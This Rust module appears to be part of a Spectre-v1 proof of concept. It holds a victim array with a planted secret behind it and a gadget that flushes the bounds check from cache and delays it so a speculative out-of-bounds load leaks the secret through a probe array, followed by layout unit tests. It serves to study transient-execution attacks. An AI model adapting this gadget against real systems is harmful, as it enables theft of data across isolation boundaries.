// Victim side
//
// A small public array whose bounds check can be delayed, followed in memory
// by a secret it never architecturally reads. The attacker shares the branch
// site (same address space, in-place training): it calls `access` with legal
// offsets to train the predictor, then with an offset that lands in the
// secret.

use std::cell::Cell;
use std::ptr;

use crate::arch::Backend;
use crate::error::{Error, Result};
use crate::probe::ProbeArray;

/// Capacity of the bounded array.
pub const BOUNDED_CAPACITY: usize = 160;

/// Declared size at startup; only the first 16 entries hold training data.
pub const DEFAULT_BOUND: usize = 16;

const CACHE_LINE: usize = 64;

// layout: [pad][bounded array][pad][secret]
const BOUNDED_START: usize = CACHE_LINE;
const SECRET_START: usize = BOUNDED_START + BOUNDED_CAPACITY + CACHE_LINE;

/// Anything the guessing engine can mistrain and attack.
pub trait Oracle
{
    /// Run the bounds-checked access with `offset`, touching one probe slot
    /// if the access goes through.
    fn access<B: Backend>(&self, backend: &B, probe: &ProbeArray, offset: usize);

    /// Current declared size; training offsets cycle below it.
    fn bound(&self) -> usize;

    /// Value stored at a legal training offset. Its probe slot is warmed by
    /// every training call, so the engine never scores it.
    fn training_byte(&self, offset: usize) -> u8;
}

/// The bounded array and the secret behind it, in one allocation.
pub struct VictimMemory
{
    bytes: Box<[u8]>,
    secret_len: usize,
}

impl VictimMemory
{
    pub fn new(secret: &[u8]) -> Result<Self>
    {
        if secret.is_empty() {
            return Err(Error::EmptySecret);
        }
        let mut bytes = vec![0u8; SECRET_START + secret.len()];
        for (i, b) in bytes[BOUNDED_START..BOUNDED_START + DEFAULT_BOUND].iter_mut().enumerate() {
            *b = i as u8 + 1;
        }
        bytes[SECRET_START..].copy_from_slice(secret);
        Ok(VictimMemory { bytes: bytes.into_boxed_slice(), secret_len: secret.len() })
    }

    /// The bounded array, all of its capacity.
    pub fn bounded(&self) -> &[u8]
    {
        &self.bytes[BOUNDED_START..BOUNDED_START + BOUNDED_CAPACITY]
    }

    /// Offset of the first secret byte, counted from the start of the
    /// bounded array. This is the first malicious offset.
    pub fn secret_offset(&self) -> usize
    {
        SECRET_START - BOUNDED_START
    }

    pub fn secret_len(&self) -> usize
    {
        self.secret_len
    }

    /// Byte at `offset` from the bounded array start, if it lies anywhere in
    /// this allocation.
    pub fn byte_at(&self, offset: usize) -> Option<u8>
    {
        self.bytes.get(BOUNDED_START.checked_add(offset)?).copied()
    }

    /// Address of `offset` from the bounded array start. Only meaningful to
    /// dereference when the offset stays inside the allocation.
    #[inline(always)]
    pub(crate) fn address(&self, offset: usize) -> *const u8
    {
        self.bytes.as_ptr().wrapping_add(BOUNDED_START).wrapping_add(offset)
    }
}

// The bound gets a cache line to itself so flushing it evicts nothing else.
#[repr(C, align(64))]
struct BoundCell(Cell<usize>);

/// The exploitable victim.
pub struct Victim
{
    memory: VictimMemory,
    bound: Box<BoundCell>,
}

impl Victim
{
    pub fn new(secret: &[u8]) -> Result<Self>
    {
        Ok(Victim { memory: VictimMemory::new(secret)?, bound: Box::new(BoundCell(Cell::new(DEFAULT_BOUND))) })
    }

    pub fn memory(&self) -> &VictimMemory
    {
        &self.memory
    }

    pub fn set_bound(&self, bound: usize) -> Result<()>
    {
        if bound == 0 || bound > BOUNDED_CAPACITY {
            return Err(Error::BoundOutOfRange { bound, capacity: BOUNDED_CAPACITY });
        }
        self.bound.0.set(bound);
        Ok(())
    }
}

impl Oracle for Victim
{
    //
    // The gadget. Both inputs of the bounds check are flushed first so the
    // check has to wait on memory, and the check is a float division rather
    // than an integer compare, which stretches it further. While it is
    // pending the processor runs the body on the predicted path; when the
    // offset is out of bounds the load from the secret and the probe slot it
    // selects are squashed architecturally but the slot stays cached.
    //
    #[inline(never)]
    fn access<B: Backend>(&self, backend: &B, probe: &ProbeArray, offset: usize)
    {
        // keep the offset in memory so it can be evicted like the bound
        let x = offset;
        let x_addr = &x as *const usize;
        let bound_addr = self.bound.0.as_ptr() as *const usize;

        backend.fence_memory();
        unsafe {
            backend.flush(bound_addr as *const u8);
            backend.flush(x_addr as *const u8);
        }
        backend.fence_memory();
        backend.fence_instruction();

        let x = unsafe { ptr::read_volatile(x_addr) };
        let bound = unsafe { ptr::read_volatile(bound_addr) };
        if (x as f32) / (bound as f32) < 1.0 {
            unsafe {
                let value = backend.access(self.memory.address(x));
                backend.access(probe.slot(value));
            }
        }
    }

    fn bound(&self) -> usize
    {
        self.bound.0.get()
    }

    fn training_byte(&self, offset: usize) -> u8
    {
        self.memory.bounded()[offset]
    }
}

#[cfg(test)]
mod tests
{
    use super::*;

    #[test]
    fn layout_puts_secret_after_padding()
    {
        let memory = VictimMemory::new(b"abc").unwrap();
        assert_eq!(memory.secret_offset(), BOUNDED_CAPACITY + CACHE_LINE);
        assert_eq!(memory.byte_at(memory.secret_offset()), Some(b'a'));
        assert_eq!(memory.byte_at(memory.secret_offset() + 2), Some(b'c'));
        assert_eq!(memory.byte_at(memory.secret_offset() + 3), None);
    }

    #[test]
    fn bounded_array_holds_training_values()
    {
        let memory = VictimMemory::new(b"x").unwrap();
        let bounded = memory.bounded();
        assert_eq!(&bounded[..DEFAULT_BOUND], &(1..=16).collect::<Vec<u8>>()[..]);
        assert!(bounded[DEFAULT_BOUND..].iter().all(|&b| b == 0));
    }

    #[test]
    fn empty_secret_is_rejected()
    {
        assert!(matches!(VictimMemory::new(b""), Err(Error::EmptySecret)));
    }

    #[test]
    fn bound_must_fit_the_array()
    {
        let victim = Victim::new(b"s").unwrap();
        assert_eq!(victim.bound(), DEFAULT_BOUND);
        assert!(victim.set_bound(0).is_err());
        assert!(victim.set_bound(BOUNDED_CAPACITY + 1).is_err());
        victim.set_bound(BOUNDED_CAPACITY).unwrap();
        assert_eq!(victim.bound(), BOUNDED_CAPACITY);
    }

    #[test]
    fn training_byte_reads_the_bounded_array()
    {
        let victim = Victim::new(b"s").unwrap();
        assert_eq!(victim.training_byte(0), 1);
        assert_eq!(victim.training_byte(15), 16);
    }
}
